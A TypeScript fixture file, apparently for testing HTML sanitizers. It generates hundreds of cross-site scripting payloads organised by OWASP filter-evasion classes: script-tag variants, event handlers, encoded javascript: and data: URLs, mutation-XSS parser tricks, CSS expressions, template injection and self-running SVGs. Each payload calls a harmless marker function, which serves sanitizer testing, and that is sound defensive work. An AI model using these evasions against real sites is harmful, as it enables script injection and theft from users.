// What an attacker writes into a text so that it runs in a reader's browser, by the classes of the OWASP filter evasion
// cheat sheet: every payload that runs calls top.ran(n).

const call = (n: number) => `top.ran(${n})`;
/** The same characters as HTML entities, which a parser decodes before a filter may have looked. */
const decimal = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('');
const padded = (text: string) => [...text].map((sign) => `&#${String(sign.codePointAt(0)).padStart(7, '0')}`).join('');
const hexadecimal = (text: string) => [...text].map((sign) => `&#x${sign.codePointAt(0)?.toString(16)};`).join('');
const base64 = (text: string) => Buffer.from(text).toString('base64');
const mixed = (text: string) => [...text].map((sign, i) => (i % 2 ? sign.toUpperCase() : sign)).join('');

type Payload = (n: number) => string;

const scripts: Payload[] = [
  (n) => `<script>${call(n)}</script>`,
  (n) => `<SCRIPT>${call(n)}</SCRIPT>`,
  (n) => `<script >${call(n)}</script >`,
  (n) => `<script/x>${call(n)}</script>`,
  (n) => `<script\n>${call(n)}</script\n>`,
  (n) => `<<script>${call(n)}//<</script>`,
  (n) => `<scr<script>ipt>${call(n)}</scr</script>ipt>`,
  (n) => `<script>${call(n)}`,
  (n) => `<script src="data:text/javascript,${call(n)}"></script>`,
  (n) => `<script src=data:text/javascript;base64,${base64(call(n))}></script>`,
  (n) => `<script type="module">${call(n)}</script>`,
  (n) => `<svg><script>${call(n)}</script></svg>`,
  (n) => `<svg><script href="data:text/javascript,${call(n)}"/></svg>`,
  (n) => `<svg><script>${decimal(call(n))}</script></svg>`,
  (n) => `<math><script>${call(n)}</script></math>`,
  (n) => `<template><script>${call(n)}</script></template>`,
  (n) => `<noscript><p title="</noscript><script>${call(n)}</script>">`,
  (n) => `<title><img src=x onerror=${call(n)}></title><script>${call(n)}</script>`,
  (n) => `</textarea><script>${call(n)}</script>`,
  (n) => `"><script>${call(n)}</script>`,
  (n) => `'><script>${call(n)}</script>`,
  (n) => `--><script>${call(n)}</script>`,
  (n) => `]]><script>${call(n)}</script>`,
  (n) => `<!--<img src="--><script>${call(n)}</script>">`,
  (n) => `<![CDATA[<script>${call(n)}</script>]]>`,
  (n) => `<?xml version="1.0"?><script>${call(n)}</script>`,
  (n) => `<style><img src="</style><script>${call(n)}</script>">`,
  (n) => `<xmp><p title="</xmp><script>${call(n)}</script>">`,
  (n) => `<noembed><p title="</noembed><script>${call(n)}</script>">`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;script&gt;${call(n)}&lt;/script&gt;">`,
];

const events = [
  ...[
    'onload',
    'onerror',
    'onclick',
    'onmouseover',
    'onmouseenter',
    'onfocus',
    'onblur',
    'ontoggle',
    'onanimationstart',
    'onbegin',
  ],
  ...[
    'onpointerenter',
    'oninput',
    'onchange',
    'onsubmit',
    'onwheel',
    'onscroll',
    'ontouchstart',
    'oncopy',
    'onloadstart',
    'onkeydown',
  ],
];
const carriers: ((attribute: string) => string)[] = [
  (on) => `<img src=x ${on}>`,
  (on) => `<img/src=x/${on}>`,
  (on) => `<svg ${on}></svg>`,
  (on) => `<svg><animate attributeName=x dur=1s ${on}></svg>`,
  (on) => `<body ${on}>`,
  (on) => `<details open ${on}><summary>s</summary></details>`,
  (on) => `<a href="#" ${on}>a</a>`,
  (on) => `<video ${on}><source src=x></video>`,
  (on) => `<iframe ${on}></iframe>`,
  (on) => `<input autofocus ${on}>`,
  (on) => `<p style="color:red" ${on}>p</p>`,
];
const handlers = events.flatMap((event) =>
  carriers.map(
    (carrier): Payload =>
      (n) =>
        carrier(`${event}="${call(n)}"`),
  ),
);

const attributes: Payload[] = [
  (n) => `<img src=x OnErRoR=${call(n)}>`,
  (n) => `<img src=x onerror=${decimal(call(n))}>`,
  (n) => `<img src=x onerror="${hexadecimal(call(n))}">`,
  (n) => `<img src=x onerror=\`${call(n)}\`>`,
  (n) => `<img src="x" onerror\n=\n"${call(n)}">`,
  (n) => `<img src="x"\tonerror="${call(n)}">`,
  (n) => `<img src="x"\u000conerror="${call(n)}">`,
  (n) => `<img """><img src=x onerror="${call(n)}">">`,
  (n) => `<img src='x' title='a" onerror="${call(n)}' >`,
  (n) => `<img alt="&quot; onerror=&quot;${call(n)}" src=x>`,
  (n) => `<img src=x title="--><img src=x onerror=${call(n)}>">`,
  (n) => `<a title="</a><img src=x onerror=${call(n)}>">a</a>`,
  (n) => `<p id="</p><img src=x onerror=${call(n)}>">`,
  (n) => `<table background="javascript:${call(n)}"><td>x</td></table>`,
  (n) => `<font color="&quot;&gt;&lt;img src=x onerror=${call(n)}&gt;">f</font>`,
  (n) => `<img src=x:x onerror=window[/to/.source+/p/.source].ran(${n})>`,
  (n) => `<img srcset="x,y" onerror=${call(n)}>`,
  (n) => `<isindex action=javascript:${call(n)} type=image>`,
  (n) => `<p data-x="1"onclick="${call(n)}">p</p>`,
  (n) => `<img src="a" class="x" / onerror="${call(n)}" / >`,
];

const schemes = (n: number): string[] => {
  const address = `javascript:${call(n)}`;
  return [
    address,
    mixed('javascript:') + call(n),
    ` ${address}`,
    `\u0001${address}`,
    `java\tscript:${call(n)}`,
    `java\nscript:${call(n)}`,
    `jav&#x09;ascript:${call(n)}`,
    `jav&#x0A;ascript:${call(n)}`,
    `javascript&colon;${call(n)}`,
    `javascript&#58;${call(n)}`,
    decimal(address),
    padded(address),
    hexadecimal(address),
    `javascript://example.org/%0A${call(n)}`,
    `vbscript:${call(n)}`,
    `data:text/html,<script>${call(n)}</script>`,
    `data:text/html;base64,${base64(`<script>${call(n)}</script>`)}`,
    `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call(n)}"/>`)}`,
    `feed:javascript:${call(n)}`,
    `view-source:javascript:${call(n)}`,
  ];
};
const links: ((address: string) => string)[] = [
  (url) => `<a href="${url}">a</a>`,
  (url) => `<img src="${url}">`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button>b</button></form>`,
  (url) => `<button formaction="${url}">b</button>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<video poster="${url}" src="${url}"></video>`,
  (url) => `<svg><a xlink:href="${url}"><text y="20">a</text></a></svg>`,
  (url) => `<math><maction actiontype="statusline" xlink:href="${url}">m</maction></math>`,
];
const addresses = Array.from({ length: 20 }, (_, i) =>
  links.map(
    (link): Payload =>
      (n) =>
        link(schemes(n)[i] ?? ''),
  ),
).flat();

const documents: Payload[] = [
  (n) => `<base href="javascript:${call(n)}//"><a href="#">a</a>`,
  (n) => `<meta http-equiv="refresh" content="0;url=javascript:${call(n)}">`,
  (n) => `<link rel="stylesheet" href="javascript:${call(n)}">`,
  (n) => `<link rel="import" href="data:text/html,<script>${call(n)}</script>">`,
  (n) => `<iframe srcdoc="<script>${call(n)}</script>"></iframe>`,
  (n) => `<iframe srcdoc="&lt;script&gt;${call(n)}&lt;/script&gt;"></iframe>`,
  (n) => `<iframe src="https://www.youtube.com.evil.example/x" onload=${call(n)}></iframe>`,
  (n) => `<style>@import "javascript:${call(n)}";</style>`,
  (n) => `<style>*{background:url(javascript:${call(n)})}</style>`,
  (n) => `<p style="background:url(javascript:${call(n)})">p</p>`,
  (n) => `<p style="width:expression(${call(n)})">p</p>`,
  (n) => `<p style="-moz-binding:url(data:text/xml,${call(n)})">p</p>`,
  (n) => `<p style="color:red;&#10;behavior:url(#${call(n)})">p</p>`,
  (n) => {
    const used = `<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${call(n)}"/></svg>`;
    return `<svg><use href="data:image/svg+xml;base64,${base64(used)}#x"/></svg>`;
  },
  (n) => `<svg><set attributeName="onmouseover" to="${call(n)}"/><rect width=9 height=9 /></svg>`,
  (n) =>
    `<svg><animate xlink:href="#l" attributeName="href" values="javascript:${call(n)}"/>` +
    '<a id="l"><text y="9">a</text></a></svg>',
  (n) => `<svg><foreignObject><img src=x onerror=${call(n)}></foreignObject></svg>`,
  (n) => `<svg></p><style><a id="</style><img src=1 onerror=${call(n)}>">`,
  (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call(n)}>`,
  (n) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${call(n)}></annotation-xml></math>`,
  (n) => `<select><template><img src=x onerror=${call(n)}></template></select>`,
  (n) => `<frameset onload=${call(n)}>`,
  (n) => `<marquee onstart=${call(n)}>m</marquee>`,
  (n) => `<applet code="javascript:${call(n)}"></applet>`,
  (n) => `<custom-element onclick=${call(n)}>c</custom-element>`,
  (n) => `&lt;script&gt;${call(n)}&lt;/script&gt;`,
  (n) => `&amp;lt;img src=x onerror=${call(n)}&amp;gt;`,
  (n) => `{{constructor.constructor('${call(n)}')()}}`,
  (n) => `\${${call(n)}}`,
  (n) => `<plaintext><img src=x onerror=${call(n)}>`,
  (n) => `+ADw-script+AD4-${call(n)}+ADw-/script+AD4-`,
  (n) => `\u00bcscript\u00be${call(n)}\u00bc/script\u00be`,
  (n) => `<a href="https://example.org" onclick="${call(n)}" target="_blank" rel="opener">a</a>`,
  (n) => `<img src="asset://1" onload="${call(n)}" onerror="${call(n)}">`,
];

/** Payload number n calls top.ran(n). */
export const payloads: readonly string[] = [...scripts, ...handlers, ...attributes, ...addresses, ...documents].map(
  (payload, n) => payload(n),
);

/** The same as pictures: well-formed SVG that runs what it is given when it is opened by itself. */
export const svgs: readonly string[] = [
  (n: number) => `<script>${call(n)}</script>`,
  (n: number) => `<script type="text/ecmascript"><![CDATA[${call(n)}]]></script>`,
  (n: number) => `<script xlink:href="data:text/javascript,${call(n)}"/>`,
  (n: number) => `<g onload="${call(n)}"/>`,
  (n: number) => `<image href="x:" onerror="${call(n)}"/>`,
  (n: number) =>
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">' +
    `<img src="x:" onerror="${call(n)}"/></body></foreignObject>`,
  (n: number) =>
    `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${call(n)}"/></foreignObject>`,
  (n: number) => `<set attributeName="onmouseover" to="${call(n)}" onbegin="${call(n)}" begin="0s"/>`,
  (n: number) => `<animate attributeName="x" dur="1s" begin="0s" onbegin="${call(n)}"/>`,
  (n: number) => `<style>@import 'x:';</style><rect onload="${call(n)}" width="1" height="1"/>`,
].map(
  (inner, n) =>
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ' +
    `onload="${call(2000 + n)}">${inner(1000 + n)}</svg>`,
);
